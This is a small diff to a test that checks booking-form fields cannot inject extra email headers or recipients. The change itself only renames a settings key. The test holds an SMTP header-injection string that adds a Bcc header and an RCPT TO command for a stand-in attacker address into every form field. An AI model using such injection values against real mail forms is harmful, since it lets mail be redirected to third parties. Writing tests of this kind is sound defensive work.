@@ -23,7 +23,7 @@ test('line breaks in a booking add neither headers nor recipients to the email',
   server.listen(port, '127.0.0.1');
   await once(server.server, 'listening');
   const injected = 'Ada\r\nBcc: thief@evil.example\r\n\r\n.\r\nRCPT TO:<thief@evil.example>\r\n';
-  const settings = { SMTP_URL: `smtp://127.0.0.1:${port}`, NOTICE_EMAIL: 'desk@example.com' };
+  const settings = { SMTP_URL: `smtp://127.0.0.1:${port}`, NOTIFICATION_EMAIL: 'desk@example.com' };
   const fields = { name: injected, phone: injected, email: injected, message: injected };
   const booking = { ...aBooking(), ...fields, id: '1', createdAt: new Date() };
   await createSender(readEnv(settings))!(booking as Consultation);
